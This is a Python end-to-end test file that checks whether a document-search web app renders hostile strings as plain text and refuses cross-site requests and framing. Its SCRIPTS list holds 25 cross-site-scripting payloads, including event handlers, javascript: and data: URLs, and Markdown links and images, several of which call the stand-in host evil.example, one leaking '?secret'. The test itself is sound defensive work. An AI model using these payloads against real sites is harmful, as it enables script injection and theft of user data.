"""Text written by documents, models or users stays text, and no other site can embed the page."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route

from local.run_all.stack import LocalStack
from samples.acl import ANNA
from tests.e2e.web.browser import measure, opened

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(600), pytest.mark.attack("scripts in pages")]
SCRIPTS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<details open ontoggle=hit()>x</details>",
    "<body onload=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<math><mi xlink:href=javascript:hit()>x</mi></math>",
    "<object data=javascript:hit()></object>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input type=submit autofocus onfocus=hit()></form>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<video><source onerror=hit()></video>",
    "[x](javascript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "![x](http://evil.example/?secret)",
    "![x](/api/documents/../../evil.example/figures/x.png)",
    "![x](javascript:hit())",
    "<javascript:hit()>",
    "[x]: javascript:hit()\n\n[x]",
)
FRAMES = ("{}", "a {} b", "**{}**", "- {}", "| a |\n| - |\n| {} |", "> {}", "`x` {}", "\"'>{}")
CASES = [frame.format(script) for script in SCRIPTS for frame in FRAMES]
# Elements and attributes that none of these strings may create.
HARM = """() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name } of element.attributes) if (name.startsWith("on")) found.push(element.outerHTML);
    if (/^(SCRIPT|IFRAME|OBJECT|EMBED|BASE|META|LINK|STYLE|VIDEO|MATH)$/i.test(element.tagName) &&
        !element.closest("head")) found.push(element.outerHTML);
    const address = element.getAttribute("href") ?? element.getAttribute("src") ?? "";
    if (/^\\s*(javascript|data|vbscript):/i.test(address)) found.push(element.outerHTML);
    const isPicture = element.tagName === "IMG";
    if (isPicture && new URL(element.src).origin !== location.origin) found.push(element.outerHTML);
  }
  return [...found, ...Array(window.hits ?? 0).fill("hit")];
}"""
COUNT_HITS = "window.hits = 0; window.hit = () => { window.hits += 1; };"


def test_two_hundred_strings_stay_text_in_every_field(
    stack: LocalStack, browser: Browser, report: Path
) -> None:
    assert len(set(CASES)) == 200
    failed: list[str] = []
    marker_count = 0
    with opened(browser, stack.base_url) as watched:
        page = watched.page
        page.context.add_init_script(COUNT_HITS)
        page.route(re.compile(r"/api/"), _poisoned)
        for path, selector in PLACES:
            page.goto(stack.base_url + path)
            page.wait_for_selector(selector)
            for toggle in page.query_selector_all(".facet-toggle"):
                toggle.evaluate("element => element.click()")
            for toggle in page.query_selector_all(".facet-value.more, .progress summary"):
                toggle.evaluate("element => element.click()")
            marker_count += _count_markers(page)
            failed += page.evaluate(HARM)
    measure(report, xss_cases=len(CASES), xss_failed=len(failed))
    assert failed == []
    # The strings must be displayed, because an empty page would pass the check above.
    assert marker_count > 1500


PLACES = (
    ("/?thread=t", ".turn:nth-of-type(200) .answer"),
    ("/?thread=t&run=r0&cite=1", ".elements"),
    ("/?view=documents", "table.documents"),
    ("/?view=documents&doc=d0", ".metadata"),
    ("/?view=account", ".memories"),
)


def _count_markers(page: Page) -> int:
    """Return how often the page displays the marker word as text, once the count is stable."""
    before, count = -1, 0
    while count == 0 or count != before:
        page.wait_for_timeout(500)
        before = count
        count = page.evaluate("document.body.innerText.match(/hit\\(\\)|evil\\.example/g)?.length ?? 0")
    return count


def _poisoned(route: Route) -> None:
    """Respond with one of the hostile strings in every text field."""
    path = route.request.url.partition("/api")[2].partition("?")[0]
    for pattern, body in ANSWERS:
        if re.fullmatch(pattern, path):
            route.fulfill(content_type="application/json", body=json.dumps(body))
            return
    route.fulfill(status=400, content_type="application/problem+json", body=json.dumps(_problem(CASES[0])))


def _problem(text: str) -> dict[str, Any]:
    return {"type": text, "title": text, "status": 400, "detail": text, "hints": [text]}


def _citation(number: int, text: str) -> dict[str, Any]:
    return {
        "n": number,
        "doc_id": f"d{number}",
        "block_id": text,
        "filename": text,
        "page_number": 1,
        "start_seconds": None,
        "quote": text,
        "context": text,
        "verified": False,
        "url": "/api/documents/d0/pages/1",
    }


def _message(number: int, text: str) -> dict[str, Any]:
    answer = {
        "run_id": f"r{number}",
        "text": f"{text}\n\nx [1]\n\n{text}",
        "citations": [_citation(1, text)],
        "abstained": True,
        "missing": text,
        "next_step": text,
        "unsupported_claims": 0,
        "truncated": False,
        "figures": [],
        "conflicts": [],
        "sub_agents": [],
        "warnings": [text],
    }
    return {
        "run_id": f"r{number}",
        "number": number,
        "question": text,
        "status": "completed",
        "created_at": "2026-01-01T00:00:00Z",
        "finished_at": None,
        "error": text,
        "error_type": text,
        "answer": answer,
        "feedback": None,
    }


def _document(number: int, text: str) -> dict[str, Any]:
    plain = dict.fromkeys(("filename", "title", "document_type", "department", "author", "language"), text)
    more = dict.fromkeys(("project_id", "summary_brief", "status_reason", "hint", "summary_standard"), text)
    return {
        **plain,
        **more,
        "doc_id": f"d{number}",
        "status": "ready",
        "tags": [text],
        "page_count": 1,
        "version": 1,
        "upload_date": None,
        "source_url": "javascript:hit()",
        "warnings": [text],
        "history": [],
        "edited_fields": [],
        "may_change": True,
        "owner_id": text,
        "acl": [text],
        "folder": text,
        "content_hash": "",
        "access_via": [text],
        "failed_tries": 0,
    }


def _elements() -> Iterator[dict[str, Any]]:
    for number, text in enumerate(CASES):
        kind = ("paragraph", "heading", "list_item", "code", "table")[number % 5]
        content = f"| a |\n| --- |\n| {text} |" if kind == "table" else text
        marks = [{"start": 0, "end": 5}]
        rest = {"page_number": 1, "level": 2, "start_seconds": None, "figure": None}
        yield {"kind": kind, "text": content, "marks": marks, **rest}


_VALUES = [{"value": text, "count": 1} for text in CASES]
_PAGE = {
    "doc_id": "d0",
    "filename": CASES[1],
    "title": CASES[2],
    "language": CASES[3],
    "page_number": 1,
    "source_url": "javascript:hit()",
    "page_count": 1,
    "has_pages": True,
    "picture": None,
    "elements": list(_elements()),
    "cited": None,
    "content_url": "/x",
    "readable_url": "/x",
}
_TIMES = {"created_at": "2026-01-01T00:00:00Z", "updated_at": "2026-01-01T00:00:00Z"}
_THREADS = [
    {"thread_id": f"t{number}", "title": text, "turn_count": 1, "active_run": None, **_TIMES}
    for number, text in enumerate(CASES)
]
_MEMORIES = [
    {"memory_id": str(number), "thread_id": "t", "question": text, "answer_summary": text, **_TIMES}
    for number, text in enumerate(CASES)
]
_FILES = [
    {
        "name": text,
        "size_bytes": 1,
        "modified_at": "2026-01-01T00:00:00Z",
        "expires_at": "2026-01-02T00:00:00Z",
    }
    for text in CASES
]
_FACETS = dict.fromkeys(("document_type", "department", "language", "tags", "project_id"), _VALUES)
_ME = {
    "user_id": "u",
    "name": CASES[1],
    "department": CASES[2],
    "org_id": CASES[3],
    "group_count": 0,
    "roles": [],
    "is_administrator": False,
}
_SITE = {"max_question_chars": 8000, "max_document_bytes": 1, "max_request_bytes": 1, "suffixes": [".md"]}
ANSWERS: tuple[tuple[str, Any], ...] = (
    ("/me", _ME),
    ("/me/audiences", {"audiences": [{"kind": "group", "principal": text, "name": text} for text in CASES]}),
    ("/site", _SITE),
    ("/threads", {"threads": _THREADS, "count": len(CASES), "cursor": None}),
    (
        "/threads/t/messages",
        {"thread_id": "t", "messages": [_message(n, text) for n, text in enumerate(CASES)], "cursor": None},
    ),
    ("/documents", {"documents": [_document(n, text) for n, text in enumerate(CASES)], "cursor": None}),
    ("/documents/facets", {**_FACETS, "document_count": len(CASES)}),
    (r"/documents/d\d+/pages/1", _PAGE),
    (r"/documents/d\d+", _document(0, CASES[1])),
    ("/memory", {"memories": _MEMORIES, "count": len(CASES), "cursor": None, "is_on": True}),
    ("/workspace", {"files": _FILES, "count": len(CASES)}),
)


def test_no_other_site_holds_the_page_or_speaks_for_it(stack: LocalStack, browser: Browser) -> None:
    with opened(browser, stack.base_url) as watched:
        page = watched.page
        cookies = page.context.cookies()
        assert all(cookie["httpOnly"] for cookie in cookies if cookie["name"] == "AppServiceAuthSession")
        storage = page.evaluate("JSON.stringify({...localStorage, ...sessionStorage})")
        assert set(json.loads(storage)) <= {
            "groundwork.theme",
            "groundwork.language",
            "groundwork.draft",
            "groundwork.queue",
        }
        refused = page.evaluate("""async () => { try { document.body.innerHTML = "<b>x</b>"; return "" }
          catch (error) { return error.name } }""")
        assert refused == "TypeError"  # the browser enforces Trusted Types
        page.evaluate("violations.length = 0")
        watched.faults.clear()  # the console reports this violation as well
    token = {"Authorization": f"Bearer {stack.token(ANNA)}"}
    for headers in ({"Sec-Fetch-Site": "cross-site"}, {"Origin": "http://evil.example"}):
        response = httpx.post(f"{stack.base_url}/api/threads", json={}, headers={**token, **headers})
        assert response.status_code == 403
    shell = httpx.get(f"{stack.base_url}/web")
    assert "frame-ancestors 'none'" in shell.headers["content-security-policy"]
